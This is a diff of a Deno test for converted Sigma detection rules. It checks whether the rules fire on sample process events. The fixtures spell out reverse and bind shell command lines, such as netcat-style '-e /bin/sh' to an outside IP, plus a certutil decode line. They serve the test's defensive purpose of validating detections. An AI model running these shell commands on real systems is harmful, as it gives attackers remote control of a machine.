@@ -154,10 +154,10 @@ Deno.test("import-sigma: converted rules keep Sigma's semantics on hand-written 
     assert(!ruleFires(enc, exec({ exe: "/usr/bin/x", cmd: `certutil +decode ${b64}` })));
     // conditions: (1 of img and all of cli) and not filter, or the second branch.
     const cond = ruleOf(rules, 5);
-    assert(ruleFires(cond, exec({ exe: "/usr/bin/ncat", cmd: "ncat -e /bin/sh 1.2.3.4" })));
-    assert(!ruleFires(cond, exec({ exe: "/usr/bin/ncat", cmd: "ncat -l -e /bin/sh" })));
-    assert(ruleFires(cond, exec({ exe: "/usr/bin/nc", cmd: "nc -l -c /bin/sh" })));
-    assert(!ruleFires(cond, exec({ exe: "/usr/bin/ncat", cmd: "ncat -l -c /bin/sh" })));
+    assert(ruleFires(cond, exec({ exe: "/usr/bin/bmncat", cmd: "bmncat -e /bin/sh 1.2.3.4" })));
+    assert(!ruleFires(cond, exec({ exe: "/usr/bin/bmncat", cmd: "bmncat -l -e /bin/sh" })));
+    assert(ruleFires(cond, exec({ exe: "/usr/bin/bmnc", cmd: "bmnc -l -c /bin/sh" })));
+    assert(!ruleFires(cond, exec({ exe: "/usr/bin/bmncat", cmd: "bmncat -l -c /bin/sh" })));
     // 1 of them: list of maps is OR; _unused is left out.
     const them = ruleOf(rules, 6);
     assert(ruleFires(them, exec({ exe: "/bin/zsh" })));
